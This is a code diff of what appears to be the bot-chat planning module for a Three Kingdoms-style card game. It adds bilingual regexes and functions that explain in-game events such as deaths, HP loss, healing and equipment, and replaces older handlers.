+const WHY_ZH_BEHIND = /(?:怎么|咋)(?:回事|搞的|来的)|啥(?:情况|机制|原理|操作)|什么(?:情况|机制|原理)|为(?:啥|什么)$|[看听搞]不懂|没[看听搞]?(?:懂|明白)|讲讲|解释/;
+const HP = "(?:hp|health|dmg|damage|hearts?|life|lives|[1-4]|one|two|three|blood)";
+const EN5 = [
+	["unhealed", `(?:n'?t|not|\\bno)(?: get| getting)? heal(?:ed|ing)?\\b`],
+	[
+		"unhurt",
+		`(?:\\bnot|n'?t|\\bnever|\\bdidnt|\\bdoesnt)(?: even)? (?:lose|lost|losing|take|taking|get hurt|do|drop)\\b|\\b(?:no|zero) (?:damage|dmg)\\b|\\bunhurt\\b|\\bstill (?:at )?full\\b`
+	],
+	[
+		"lives",
+		`\\bstill (?:alive|breathing|standing|kicking|up)\\b|\\balive\\b|\\bsurviv\\w+|(?:\\bnot|n'?t)(?: [a-z0-9]+){0,2} (?:dead|die)\\b`
+	],
+	[
+		"lost",
+		`\\b(?:lose|lost|losing|take|took|taking|down|missing|drop(?:ped)?)\\b(?: [a-z]+)?(?: to)? ?\\b${HP}\\b(?! cards?| turns?)|\\bget(?:ting)? hurt\\b|\\b(?:on|at|down to) [1-3](?: ?hp| health)?(?! and| or)\\b|\\bmy (?:hp|health) go\\b`
+	],
+	[
+		"healed",
+		"\\bfull(?! (?:grip|hand|house|board))(?: (?:hp|health))?\\b|\\bhealed\\b|\\bback (?:up )?(?:to|at) \\d\\b"
+	],
+	["cards_up", "\\b(?:have|has|got|get|holding|hold) (?:so many|this many|that many|[2-9]|\\d\\d) cards\\b"],
+	["cards_down", "\\b(?:lose|lost|missing) (?:a|two|three|\\d|my|all (?:my|his|her)|his|her) cards?\\b|\\bcards go\\b"],
+	["idle", "\\bdid (?:absolutely |literally )?nothing\\b|\\b(?:do|play) anything\\b"],
+	["died", "\\b(?:die|died|dead|gone)\\b"]
+];
+const WHY_EN = "\\b(?:how(?:'?d|'?s)?(?! (?:many|much|about|bout|sure|old|long))|why(?:'?d|'?s)?|wtf)\\b";
+const WHY_EN_BEHIND = /\?\?|\b(?:how(?! many| much)|why|explain|what happened|wait what|wtf)\b/;
+const ELSE4 = /要是|如果|万一|会不会|咋办|怎么办|哪边|是[反忠内]|\bif\b|\bwould\b|\blet (?:him|her|it|them|me|us)\b|\bhow do i\b/;
+const WHO7 = /谁|哪个|几号|\bwho\b/;
+const POINTS2 = [
+	[3, /[三3仨]|\bthree\b/],
+	[2, /[两俩二2]|\btwo\b/]
+];
+function wonderIn(text) {
+	if (ELSE4.test(text)) return null;
+	const zh = new RegExp("\\p{Script=Han}", "u").test(text);
+	const behind = (zh ? WHY_ZH_BEHIND : WHY_EN_BEHIND).test(text);
+	let last = null;
+	for (const [effect, words] of zh ? ZH4 : EN5) {
+		const ahead = zh ? `${WHY_ZH}[^,.!?]{0,10}?|居然[^,.!?]{0,3}?` : `${WHY_EN}[^.!?]{0,44}?`;
+		const asked = new RegExp(`(${ahead})(?:${words})`).exec(text);
+		const told = asked ?? new RegExp(words).exec(text);
+		const match = asked || behind || new RegExp(WHY_ZH).test(told?.[0] ?? "") ? told : null;
+		if (match === null) continue;
+		const start = match.index + (asked?.[1]?.length ?? 0);
+		const end = match.index + match[0].length;
+		const points = POINTS2.find(([, n]) => n.test(text.slice(start, end)))?.[0] ?? null;
+		if (WHO7.test(text.slice(0, end))) continue;
+		const one = { effect, start, end, points };
+		if (asked !== null || !behind) return one;
+		if (last === null || start > last.end) last = one;
+	}
+	return last;
 }
 
 // src/chatter/plan/inquiry.ts
@@ -40919,7 +41480,6 @@ function eventsOf(when, scene) {
 	const weightiest = then.filter(({ kind, by, to }) => rank.includes(kind) && by !== to).sort((a, b) => rank.indexOf(a.kind) - rank.indexOf(b.kind)).slice(0, MOST_TOLD2);
 	return then.filter((fact) => weightiest.includes(fact));
 }
-const SHOWN2 = /[翻亮开]出?(?:来|的|牌)*(?:都|到底)?是?(?:个)?(?:啥|什么|哪)|(?:啥|什么)身份|\bwhat (?:role|side)\b|\b(?:turn(?:ed)? out|flip(?:ped)?)(?: to be)? what\b|\bwhat did .{1,20} (?:turn out|flip)\b/;
 const LAST_WORDS = /(?<![还好可没再])(?:说|讲|喊)(?:过|了)?(?:什么|啥)|说(?:了|过)(?:哪些|几句)|遗言|\bwhat did .{1,20} say\b|last words/;
 const CHALLENGE = /(?:还有|有)(?:什么|啥|何)(?:话|好|可)(?:说|讲|解释|狡辩)|怎么解释|\bwhat do you have to say\b|\bexplain yourself\b/;
 const ASKS_WHOM = /(?<!^)谁|哪[几两些]?个|几号|\bwhom?\b/;
@@ -40927,10 +41487,11 @@ function factPlan(move, asked) {
 	const { scene, me, lastWords, text } = asked;
 	const { facts = [] } = move;
 	const spoke = LAST_WORDS.test(text);
-	const about = move.about ?? (spoke || SHOWN2.test(text) ? facts[0]?.to : void 0);
+	const late = scene.facts.filter(({ kind }) => kind === "death").pop()?.to ?? void 0;
+	const about = move.about ?? (spoke || SHOWN.test(text) ? facts[0]?.to : void 0) ?? (SHOWN.test(text) ? late : void 0);
 	const dead = about !== void 0 && seatOf(scene, about)?.alive === false;
 	const when = whenIn(text);
-	const shown = dead && SHOWN2.test(text) ? openPlan(about, { ...move, act: "ask_role" }, asked) : null;
+	const shown = dead && SHOWN.test(text) ? openPlan(about, { ...move, act: "ask_role" }, asked) : null;
 	if (shown) return { ...shown, lookedUp: true };
 	if (about === me && CHALLENGE.test(text)) return rebuttal(move, asked);
 	if (spoke && /遗言|last words/.test(text) && seatOf(scene, about ?? me)?.alive === true)
@@ -40999,82 +41560,308 @@ const LEFT5 = /还?剩|还有(?=几|多少)|\b(?:left|now)\b/;
 const standerIn = ({ text, scene, from, me }) => mentionsIn(text.slice(0, text.search(LEFT5)), { scene, from, hearer: me, he: null }).filter(({ seat }) => seat !== null).pop()?.seat ?? null;
 const diedAmid = ({ to, turn }, { uses }) => uses.filter((use) => use.turn === turn && to !== null && use.by !== to && use.to.includes(to) && use.name in CARD_RULES).pop();
 
-// src/chatter/plan/befallen.ts
-const FELL = /(?:怎么|咋)(?:就|又|还|突然|忽然|这么快|一下子|会)*(?:死|没|倒|挂|凉)了?(?:的)?(?=$|[,.!?啊呀呢吗])|\b(?:how (?:did|come)|why (?:is|did|are)) .{1,24}\b(?:die|dead|died|gone)\b/;
-const LIVED = /(?:怎么|咋|居然|竟然?)(?:还)?没(?:死|倒|挂|收掉)|(?:怎么|咋)还(?:活着|在(?:$|[,.!?啊呀]))|\b(?:how|why) (?:is|are|did|does|isn'?t|come) .{1,24}\b(?:alive|survived?|not dead|not die|live through)\b|\bwhy (?:isn'?t|didn'?t) .{1,24} (?:dead|die)\b/;
-const LOST4 = /(?:怎么|咋|为(?:什么|啥))(?:又|就|都|会|一块儿?|一起|突然)*(?:掉(?:了)?血|(?:少|掉)了?[一二三两\d]?[点滴格]|只?剩[一二三两\d][点滴格]?血?)|\bwhy (?:am i|are we|is .{1,20}) (?:on|at|down to) \d ?(?:hp|health)?\b|\bmissing (?:an? |\d )(?:hearts?|hp|health)\b|\bwhere did my (?:hp|health) go\b/;
-const CANNOT_PLAY = /[点出打]不了(?:牌)?(?=$|[,.!?\s啊呀是])|(?:不能|没法|无法)(?:出牌|点牌)|\bcan'?t (?:play|click|use)(?: any)?(?: cards?)?\b|\b(?:why|did).{0,12} (?:i|my turn) (?:get )?skipped\b/;
-function befallenPlan(move, asked) {
-	const { text, scene, from, me } = asked;
-	const base = { occasion: "ack", asked: move };
-	if (CANNOT_PLAY.test(text)) {
-		const laid = laidOn(from, scene);
-		return laid ? { ...base, move: "explain", clause: "was_laid", facts: [laid], lookedUp: true } : null;
+// src/chatter/plan/state.ts
+const PUT_ON2 = /上(?:个|一)?回合|刚才?|\blast turn\b|\bjust\b/;
+function statePlan(move, asked) {
+	const tells = !isQuestion(move) && (move.facts ?? []).some(({ verdict }) => verdict === "true");
+	const heard = tells ? null : tableAsked(asked.text);
+	const state = heard && stateAsked(heard, asked);
+	const [about, ...more] = state?.seats ?? [];
+	const of = about === void 0 || more.length > 0 ? {} : { about };
+	if (state?.counts && of.about !== void 0)
+		return {
+			move: "confirm",
+			clause: state.of === "hp" ? "stands" : "hand_count",
+			occasion: "ack",
+			asked: move,
+			...of,
+			lookedUp: true
+		};
+	return state && { move: "confirm", clause: "summed", occasion: "ack", asked: move, ...of, state };
+}
+function stateAsked({ of, how, pieces }, asked) {
+	const { text, scene, from, me, meant } = asked;
+	const seats = living(scene);
+	if (of === "chained") return { of, seats: chained(scene) };
+	const isMeant = (card) => pieces.length === 0 || pieces.includes(card);
+	const all = mentionsIn(text, { scene, from, hearer: me, he: spokenOf2(asked) }).filter(({ seat }) => seat !== null);
+	const named = all.filter(({ called }) => !called || all.length === 1).flatMap(({ seat }) => seat ?? []);
+	const alive = named.filter((seat) => scene.table.bySeat.get(seat)?.alive === true);
+	if (how === "who" || of === "gear" && pieces.length === 1 && named.length > 0 && alive.length === 0) {
+		const on = seats.filter(({ seat }) => wornBy(seat, scene).some(isMeant));
+		return {
+			of: "gear",
+			seats: on.map(({ seat }) => seat),
+			...pieces.length === 1 ? { cards: pieces } : {}
+		};
 	}
-	const [gone] = GONE3.test(text) ? goneIn(move, asked) : [];
-	if (gone) return { ...base, move: "confirm", clause: "tell", facts: [gone], lookedUp: true };
-	const got = GOT2.test(text);
-	const lost = LOST4.test(text);
-	const fell = FELL.test(text) && !cardsIn(text).some(({ card }) => GEAR.has(card));
-	const asks = lost || fell || LIVED.test(text);
-	if (!got && !asks) return null;
-	const named = mentionsIn(text, { scene, from, hearer: me, he: move.about ?? null }).flatMap(
-		({ seat, kind }) => seat === null || kind === "who" ? [] : [seat]
-	);
-	const came = got ? gotIn(text, named, scene) : null;
-	if (came) return { ...base, move: "confirm", clause: "tell", facts: [came], lookedUp: true };
-	if (!asks) return null;
-	const whom = fell ? named.filter((seat) => seatOf(scene, seat)?.alive === false).pop() ?? (cardsIn(text).some(({ card }) => card !== "tao" && card !== "jiu") ? void 0 : justFallen(scene)) : named.filter((seat) => seat !== from).pop() ?? from;
-	if (whom === void 0) return null;
-	const to = lost && named.length > 0 ? named : [whom];
-	const death = fell ? scene.facts.filter(({ kind, to: on }) => kind === "death" && on === whom).pop() : void 0;
-	if (death?.by === null) {
-		const amid = diedAmid(death, scene);
-		const told = { ...base, move: "confirm", facts: [death], lookedUp: true };
-		return amid ? { ...told, clause: "died_amid", about: amid.by, words: amid.name } : { ...told, clause: "tell" };
+	if (how === "most" || how === "least") {
+		if (of === "gear" || of === "board") return null;
+		const n = Math[how === "most" ? "max" : "min"](...seats.map((one) => one[FIELD[of]]));
+		return {
+			of,
+			most: how === "most",
+			n,
+			seats: seats.filter((one) => one[FIELD[of]] === n).map(({ seat }) => seat)
+		};
 	}
-	const hits = scene.facts.filter(
-		({ kind, to: on, by, turn }) => kind === "hit" && on !== null && to.includes(on) && // Whoever is dead fell by the blow that the death goes with.
-		(death === void 0 || turn === death.turn && by === death.by)
+	if (of === "gear" || of === "board") {
+		const whom = named.pop() ?? (meant ? me : void 0);
+		if (whom === void 0) return null;
+		const worn = wornBy(whom, scene, PUT_ON2.test(text) ? scene.lastTurns.get(whom) : 0);
+		const slots = SLOTS.filter((slot) => pieces.some((piece) => slot.includes(piece))).flat();
+		const ofKind = worn.filter((card) => slots.length === 0 || slots.includes(card));
+		return { of, seats: [whom], cards: ofKind.length > 0 ? ofKind : worn };
+	}
+	const some = seats.filter(({ seat }) => named.includes(seat));
+	if (how === "of" && some.length === 0) return null;
+	const ranked = [...some.length > (how === "each" && !text.includes("down to") ? 1 : 0) ? some : seats].sort(
+		(a, b) => b[FIELD[of]] - a[FIELD[of]]
 	);
-	const last = hits.filter(({ turn }) => !lost || turn >= scene.turn - 2).pop();
-	const question = { wants: "means", what: "hurt", cards: [], when: null, all: false, to: [...new Set(to)] };
-	if (last === void 0)
-		return lost ? { ...base, move: "unsure", clause: "not_seen", found: { asked: question, deeds: [] } } : null;
-	const then = hits.filter(({ turn, by, card }) => turn === last.turn && by === last.by && card === last.card);
-	const deed = { ...last, num: lost ? last.num : sum(then), to: [...new Set(then.flatMap((hit) => hit.to ?? []))] };
-	const healed = lost ? [] : healedIn(whom, last, scene).filter(({ kind }) => !fell || kind === "rescue");
 	return {
-		...base,
-		move: "confirm",
-		clause: fell && healed.length > 0 ? "not_enough" : !fell && !lost && healed.length > 0 ? "brought_back" : "by_means",
-		// When it was is told once.
-		found: { asked: { ...question, all: healed.length > 0 }, deeds: [deed] },
-		...healed.length > 0 && !fell ? { facts: healed.slice(-1) } : {}
+		of,
+		seats: ranked.map(({ seat }) => seat),
+		counts: ranked.map((one) => one[FIELD[of]]),
+		...SUMMED_UP.test(text) ? { most: true } : {}
 	};
 }
-const GONE3 = /[顺拆拿偷抢]走?了?.{0,8}(?:什么|啥|哪[件个])(?:装备|武器|防具|马)|(?:怎么|咋)(?:就|又|给|被|会)*(?:没|丢|掉|飞|少|被[拆顺偷拿])了?(?:的|啊|呀|呢|$)|\b(?:how(?:'d|'s| did| come)?|where(?:'d| did)?) .{1,30}\b(?:los[et]|go|gone|disappear)\b/;
-function goneIn({ about }, { text, scene, from, me }) {
-	const named = cardsIn(text).flatMap(({ card }) => GEAR.has(card) ? [card] : []);
-	const pieces = named.length > 0 ? named : gearIn(text, new Set());
-	const of = mentionsIn(text, { scene, from, hearer: me, he: about ?? null }).flatMap(({ seat }) => seat ?? []);
-	return scene.facts.filter(
-		({ kind, card, to, by }) => isLoss({ kind }) && (pieces.length > 0 ? pieces.includes(card ?? "") : card !== null && of.includes(by ?? 0)) && (of.length === 0 || of.includes(to ?? 0))
-	).slice(-1);
+const FIELD = { hp: "hp", hand: "turnHand" };
+function wornBy(of, { uses, facts }, since = 0) {
+	const worn = new Map();
+	for (const { name, by, turn } of uses)
+		if (by === of && turn >= since && GEAR.has(name) && !facts.some((fact) => fact.to === of && fact.card === name && fact.turn >= turn && isLoss(fact)))
+			worn.set(
+				SLOTS.findIndex((slot) => slot.includes(name)),
+				name
+			);
+	return [...worn.values()];
 }
-const justFallen = ({ facts, turn }) => facts.filter((fact) => fact.kind === "death" && fact.turn >= turn - 2).pop()?.to ?? void 0;
-const sum = (facts) => facts.reduce((all, { num }) => all + num, 0);
-const GOT2 = /(?:咋|怎么)(?:就|又|会)?(?:跑|到|去|在|归|落)|\bhow (?:did|come) .{1,30} (?:get|got|end(?:ed)? up|has|have)\b/;
-function gotIn(text, named, { uses, facts }) {
-	const [gear] = cardsIn(text).filter(({ card }) => GEAR.has(card));
-	const worn = uses.filter(({ name, by }) => name === gear?.card && named.includes(by)).pop();
-	if (worn === void 0) return null;
-	const then = facts.filter(
-		({ by, turn, kind, card }) => by === worn.by && turn === worn.turn && (kind === "steal" && (card === null || card === worn.name) || kind === "aimed" && card === "jiedao")
+function chained({ uses, facts, turn: now, table }) {
+	const held = new Set();
+	for (let turn = 1; turn <= now; turn++) {
+		const inTurn = facts.filter((fact) => fact.turn === turn);
+		const used = uses.filter((use) => use.turn === turn);
+		for (const { name, to } of used)
+			for (const seat of name === "tiesuo" ? to : []) {
+				const layers = inTurn.filter((fact) => fact.kind === "wuxie" && fact.card === name && fact.to === seat);
+				if (layers.length % 2 === 0 && !held.delete(seat)) held.add(seat);
+			}
+		const freed = inTurn.some(
+			({ kind, to, by, card }) => kind === "hit" && to !== null && held.has(to) && (FREES.has(card ?? "") || used.every((use) => use.by !== by || use.name !== card || !use.to.includes(to)))
+		);
+		if (freed) held.clear();
+	}
+	return [...held].filter((seat) => table.bySeat.get(seat)?.alive);
+}
+const FREES = new Set(["huogong", "shandian"]);
+
+// src/chatter/plan/in-vain.ts
+const isSkill = ({ name }) => !(name in CARD_RULES) && !GEAR.has(name);
+const skillOf = ({ uses }, by, turn, on) => {
+	const used = uses.filter((use) => use.by === by && use.turn === turn && isSkill(use) && (on === void 0 || use.to.includes(on))).pop();
+	return used ? [{ say: "skill", by: used.by, card: used.name }] : [];
+};
+function unhurt(look) {
+	const { asked, whom, cards, others, since } = look;
+	const { scene } = asked;
+	const { uses, facts } = scene;
+	const blows = uses.filter(
+		({ name: name2, to: to2, turn: turn2, by: by2 }) => BLOWS.has(name2) && turn2 >= since && to2.includes(whom) && by2 !== whom
 	);
-	return then.find(({ card }) => card === worn.name) ?? then.pop() ?? null;
+	const isMeant = (name2) => cards.includes(name2) || !cards.some((card) => BLOWS.has(card));
+	const fits = [
+		blows.filter(({ name: name2, by: by2 }) => isMeant(name2) && others.includes(by2)),
+		cards.some((card) => BLOWS.has(card)) ? blows.filter(({ name: name2 }) => cards.includes(name2)) : [],
+		others.length === 0 ? blows : []
+	];
+	const blow = fits.find((some) => some.length > 0)?.pop();
+	const own = others.length > 0 ? void 0 : uses.filter(
+		({ name: name2, by: by2, turn: turn2 }) => BLOWS.has(name2) && isMeant(name2) && by2 === whom && turn2 >= since && (blow === void 0 || cards.length > 0)
+	).pop();
+	const [to = whom] = own?.to ?? [];
+	if (own && to !== whom && (blow === void 0 || uses.indexOf(own) > uses.indexOf(blow)))
+		return unhurt({ ...look, whom: to, others: [whom] });
+	if (blow === void 0) return null;
+	const { turn, by, name } = blow;
+	const inTurn = facts.filter((fact) => fact.turn === turn);
+	const hits = inTurn.filter(
+		(fact) => fact.kind === "hit" && fact.card === name && (fact.by === by || name === "juedou")
+	);
+	if (hits.some(({ to: to2 }) => to2 === whom)) return null;
+	const wuxie = inTurn.filter((fact) => fact.kind === "wuxie" && fact.card === name && fact.to === whom);
+	const guard = wuxie[wuxie.length - 1];
+	if (guard?.by != null && wuxie.length % 2 === 1) return [{ say: "nullified", by: guard.by, card: name }];
+	if (name === "juedou" && hits.some(({ to: to2 }) => to2 === by)) return [{ say: "outfought", by }];
+	const helper = uses.find(
+		(use) => use.turn === turn && use.by !== whom && use.by !== by && use.to.includes(whom) && isSkill(use)
+	);
+	const skill = skillOf(scene, whom, turn);
+	if (skill.length > 0) return [{ say: "vain", by: whom, card: name }, ...skill];
+	if (helper)
+		return [
+			{ say: "vain", by: whom, card: name },
+			{ say: "skill", by: helper.by, card: helper.name }
+		];
+	const instead = hits.find(({ to: to2 }) => to2 !== null && !blow.to.includes(to2));
+	if (instead?.to != null) return [{ say: "instead", by: instead.to }];
+	const stripped = inTurn.some((fact) => isLoss(fact) && fact.by === by && fact.to === whom);
+	if (name === "sha" && stripped && wornBy(by, scene).includes("hanbing")) return [{ say: "ice", by }];
+	const armour = wornBy(whom, scene).find((card) => STOPS[card]?.includes(name));
+	return armour === void 0 ? null : [{ say: "wears", by: whom, card: armour }];
 }
-const healedIn = (whom, { turn }, { facts }) => facts.filter((fact) => (fact.kind === "heal" || fact.kind === "rescue") && fact.to === whom && fact.turn === turn);
+const STOPS = {
+	tengjia: ["sha", "nanman", "wanjian"],
+	renwang: ["sha"],
+	bagua: ["sha", "wanjian"]
+};
+
+// src/chatter/plan/cause.ts
+function causePlan(move, asked) {
+	const wonder = wonderIn(asked.text);
+	const look = wonder && lookOf3(wonder, move, asked);
+	if (look === null) return null;
+	if (look.wonder.effect === "idle") return idlePlan({ ...move, about: look.whom }, asked);
+	const base = { move: "confirm", occasion: "ack", asked: move, lookedUp: true };
+	if (look.wonder.effect === "died") {
+		const death = factsOn(look, "death").pop();
+		const amid = death?.by === null ? diedAmid(death, asked.scene) : null;
+		const told = { ...base, facts: death ? [death] : [] };
+		if (amid) return { ...told, clause: "died_amid", about: amid.by, words: amid.name };
+		if (death?.by === null) return { ...told, clause: "tell" };
+	}
+	const cause = CAUSES[look.wonder.effect](look);
+	if (cause === null) return null;
+	return { ...base, clause: "befell", ...look.whom === asked.me ? {} : { about: look.whom }, cause };
+}
+function lookOf3(wonder, move, asked) {
+	const { text, scene, from, me } = asked;
+	const named = mentionsIn(text, { scene, from, hearer: me, he: spokenOf2(asked) ?? move.about ?? null }).filter(
+		({ seat, kind }) => seat !== null && kind !== "who"
+	);
+	const behind = /^的是/.test(text.slice(wonder.end)) ? named.find(({ start }) => start >= wonder.end) : void 0;
+	const subject = behind ?? named.filter(({ end, called }) => end <= wonder.start && !called).pop();
+	const since = scene.turn - living(scene).length - 1;
+	const cards = cardsIn(text).map(({ card }) => card);
+	if ((wonder.effect === "died" || wonder.effect === "cards_down") && cards.some((card) => GEAR.has(card))) return null;
+	const fell = wonder.effect === "died";
+	const dead = new Set(named.flatMap(({ seat }) => seatOf(scene, seat)?.alive === false ? [seat] : []));
+	if (fell && dead.size > 1) return null;
+	const [gone] = dead;
+	const whom = (fell ? gone : subject?.seat) ?? (named.every(({ kind }) => fell && kind === "self") ? latest2(wonder.effect, asked, since) : void 0);
+	if (whom === void 0 || !fell && seatOf(scene, whom)?.alive === false) return null;
+	const others = named.flatMap(({ seat }) => seat === null || seat === whom ? [] : [seat]);
+	return { whom, wonder, asked, cards, others, since };
+}
+const KIND2 = {
+	died: ["death"],
+	healed: ["heal", "rescue"],
+	lives: ["dying", "rescue"]
+};
+const latest2 = (effect, { scene: { facts, turn } }, since) => facts.filter((fact) => (KIND2[effect] ?? []).includes(fact.kind) && fact.turn >= Math.max(since, turn - 2)).pop()?.to ?? void 0;
+const factsOn = ({ whom, asked }, ...kinds) => asked.scene.facts.filter(({ kind, to }) => to === whom && kinds.includes(kind));
+function weightOf3({ by, to, card, num, turn }, scene) {
+	const { uses, facts } = scene;
+	if (to === null) return [];
+	const used = uses.filter((use) => use.turn === turn && use.by === by && use.name === card).pop();
+	const chained = uses.some(
+		(use) => use.name === "tiesuo" && use.to.includes(to) && use.turn <= turn && turn - use.turn <= FAR3
+	);
+	const also = facts.some(
+		(one) => one.kind === "hit" && one.turn === turn && one.card === card && used?.to.includes(one.to ?? 0)
+	);
+	const parts = used && !used.to.includes(to) && chained && also ? [{ say: "chain" }] : [];
+	if (card === "nanman") parts.push({ say: "no_sha", by: to });
+	if (card === "wanjian") parts.push({ say: "no_shan", by: to });
+	if (num < 2 || by === null) return parts;
+	const wine = card === "sha" && uses.some((use) => use.name === "jiu" && use.by === by && use.turn === turn);
+	if (wine) parts.push({ say: "wine", by });
+	else if ((card === "sha" || card === "huogong") && wornBy(to, scene).includes("tengjia"))
+		parts.push({ say: "vine", by: to });
+	else if (parts.length === 0) parts.push(...skillOf(scene, by, turn, to));
+	return parts;
+}
+const FAR3 = 24;
+function blowOn(look) {
+	const { wonder, cards, others, since, asked } = look;
+	const all = factsOn(look, "hit");
+	const turn = turnOf(look);
+	if (turn !== null) return all.filter((fact) => fact.turn === turn).pop();
+	const hits = all.filter((fact) => fact.turn >= since);
+	const fits = [
+		hits.filter(
+			({ card, by }) => cards.includes(card ?? "") && (others.length === 0 || by === null || others.includes(by))
+		),
+		wonder.points === null ? [] : hits.filter(({ num }) => num === wonder.points),
+		hits.filter(({ by, turn: turn2 }) => others.includes(by ?? 0) && turn2 >= asked.scene.turn - 2),
+		hits,
+		wonder.effect === "lost" ? all : []
+	];
+	return fits.find((some) => some.length > 0)?.pop();
+}
+const turnOf = ({ cards, others, asked: { scene } }) => scene.uses.filter(({ name, by }) => cards.includes(name) && others.includes(by)).pop()?.turn ?? null;
+const lost = (look) => {
+	const { asked, whom } = look;
+	const { scene } = asked;
+	const hit = blowOn(look);
+	if (hit) return [{ say: "hit", fact: hit }, ...weightOf3(hit, scene)];
+	const turn = turnOf(look) ?? scene.turn;
+	const own = [turn, turn - 1].flatMap((one) => skillOf(scene, whom, one)).slice(0, 1);
+	return own.length === 0 ? null : [{ say: "nobody", by: whom }, ...own];
+};
+function healing(look, since = look.since) {
+	const heals = factsOn(look, "heal", "rescue").filter(({ turn }) => turn >= since);
+	const last = heals[heals.length - 1];
+	if (last === void 0) return [];
+	const alike = heals.filter(({ turn, by, card }) => turn === last.turn && by === last.by && card === last.card);
+	return [{ say: "healed", fact: { ...last, num: alike.reduce((sum, { num }) => sum + num, 0) }, times: alike.length }];
+}
+function healed(look) {
+	const parts = healing(look);
+	return parts.length === 0 ? null : [...parts, { say: "stands", by: look.whom }];
+}
+function lives(look) {
+	const hit = blowOn(look);
+	const parts = healing(look, hit?.turn);
+	if (hit === void 0 && parts.length === 0) return null;
+	return [...hit ? [{ say: "hit", fact: hit }] : [], ...parts, { say: "stands", by: look.whom }];
+}
+function unhealed({ asked, whom, cards }) {
+	const { facts } = asked.scene;
+	const wuxie = facts.filter(({ kind, card, to }) => kind === "wuxie" && to === whom && cards.includes(card ?? ""));
+	const guard = wuxie[wuxie.length - 1];
+	return guard?.by == null || guard.good !== false ? null : [{ say: "nullified", by: guard.by, card: guard.card ?? "" }];
+}
+function died(look) {
+	const death = factsOn(look, "death").pop();
+	const hits = factsOn(look, "hit").filter(({ turn, by }) => turn === death?.turn && by === death.by);
+	const last = hits[hits.length - 1];
+	if (last === void 0) return null;
+	const all = hits.filter(({ card }) => card === last.card);
+	const saved = factsOn(look, "rescue", "heal").some(({ turn }) => turn === last.turn);
+	const fact = { ...last, num: all.reduce((sum, { num }) => sum + num, 0) };
+	return [{ say: "hit", fact }, ...weightOf3(last, look.asked.scene), ...saved ? [{ say: "too_late" }] : []];
+}
+function moved2(look, up) {
+	const { asked, whom, since } = look;
+	const { scene } = asked;
+	const facts = scene.facts.filter(
+		(fact) => fact.turn >= since && fact.by !== null && (up ? fact.to === whom && isHandover(fact) || fact.by === whom && fact.kind === "steal" : fact.to === whom && isLoss(fact))
+	);
+	const last = facts[facts.length - 1];
+	if (last) return [{ say: "deeds", facts: facts.filter(({ turn }) => turn === last.turn).slice(-2) }];
+	const skill = up ? [0, 1, 2].flatMap((back) => skillOf(scene, whom, scene.turn - back)).slice(0, 1) : [];
+	return skill.length > 0 ? skill : up ? [{ say: "no_gift", by: whom }] : null;
+}
+const CAUSES = {
+	lost,
+	unhurt,
+	healed,
+	unhealed,
+	lives,
+	died,
+	cards_up: (look) => moved2(look, true),
+	cards_down: (look) => moved2(look, false)
+};
 
 // src/chatter/plan/aside.ts
 const OF_CARDS = new Set(["cards", "luck"]);
@@ -41399,9 +42186,8 @@ function rulePlan(move, asked) {
 	const { scene, text, me, from, lastWords } = asked;
 	const base = { move: "explain", occasion: "ack", asked: move };
 	if (asksPlainly(text)) return { ...base, clause: "plainly", words: plainWords(lastWords(me) ?? "") };
-	const cause = newcomerAsks(text) === null ? causeOf(text, asked) : "";
-	if (typeof cause === "object") return { ...base, clause: "tell", facts: [cause] };
-	if (cause !== void 0) return { ...base, clause: "rule", words: cause };
+	const nullified = stopped(text, asked);
+	if (nullified) return { ...base, clause: "tell", facts: [nullified] };
 	if (cardsIn(text).length > 0 || asksRule(text) && !/技能|武将|\bskills?\b/.test(text))
 		return { ...base, clause: "rule" };
 	const [skill] = skillsIn(text, scene);
@@ -41423,22 +42209,14 @@ function rulePlan(move, asked) {
 	const clause = GUARD.test(text) ? "skill_guard" : whose === me ? "skill_own" : "skill_of";
 	return { ...base, clause, about: whose, words: name };
 }
-function causeOf(text, asked) {
-	const { facts, uses } = asked.scene;
-	const named = cardsIn(text).map(({ card: card2 }) => card2);
-	if (!asksOfRules(text) || /杀.*回合|turn|times/.test(text) || named.some((one) => one === "juedou" || GEAR.has(one) || FOR_ALL.has(one)))
-		return void 0;
-	const card = named.find((one) => one === "lebu" || one === "bingliang");
-	if (card) return facts.filter((one) => one.kind === "wuxie" && one.card === card).pop();
-	const hurt = namedBy(asked).seats;
-	const hit = facts.filter(({ kind, num, to }) => kind === "hit" && num > 1 && to !== null && [asked.from, ...hurt].includes(to)).pop();
-	if (hit && /[两二俩2]|two|double/.test(text) && !/也|跟着/.test(text))
-		return uses.find(
-			({ name, by, turn }) => hit.card === "sha" ? name === "jiu" && by === hit.by && turn === hit.turn : name === "tengjia" && by === hit.to
-		)?.name;
-	return /[血滴]|hp|health|dmg|damage|hurt/.test(text) ? uses.find(({ name, to }) => name === "tiesuo" && to.some((seat) => seat === asked.from || hurt.includes(seat)))?.name : void 0;
+function stopped(text, { scene: { facts } }) {
+	const card = cardsIn(text).find((one) => one.card === "lebu" || one.card === "bingliang")?.card;
+	return card && STILL2.test(text) ? facts.filter((one) => one.kind === "wuxie" && one.card === card).pop() : void 0;
 }
-const plainWords = (words) => words.split(/[。！？!?]|\. /).map((one) => one.replace(/^[^：:]{1,14}[：:]/, "").trim()).reduce((a, b) => b.length > a.length ? b : a, "");
+const STILL2 = /还能|还可以|没(?:用|中|生效)|\bstill\b|n'?t work/;
+const plainWords = (words) => words.split(/[。！？!?]|\. /).map(
+	(one) => one.replace(/^[^：:]{1,14}[：:]|^(?:不错|对|是|没错|可不是|确有其事|看得清楚|这我记得)[，,]/, "").trim()
+).reduce((a, b) => b.length > a.length ? b : a, "");
 const OWN_SKILL = /我(?:的|这个?|那个?)?(?:技能|武将)|\bmy (?:skills?|ability|hero)\b/;
 const SKILL = /技能|武将|(?:啥|什么)(?:玩意|用)|\b(?:skills?|ability|does .{1,24} (?:even )?do)\b/;
 const GUARD = /防|破|躲|克|对付|应对|怎么办|\b(?:counter|beat|stop|avoid|defend|deal with)\b/;
@@ -41622,6 +42400,8 @@ function whyPlan(move, asked) {
 	}
 	if (exchange && exchange.answered.facts.length > 0) {
 		const again = exchange.answered.facts.flatMap((id) => scene.facts.find((fact) => fact.id === id) ?? []);
+		const mine2 = again.find(({ by, to }) => by === me && to !== me);
+		if (mine2 && exchange.answered.role === void 0) return ownAct(mine2, move, asked);
 		return { move: "explain", clause: "explain", occasion: "ask_why", facts: again, asked: move, ...taking(move) };
 	}
 	const last = between(scene, me, from, isHarm)[0];
@@ -41722,6 +42502,7 @@ const ONE_OWN = /等(?:我|下我)|我(?:会|得|要|就|尽量)?(?:快点|赶�
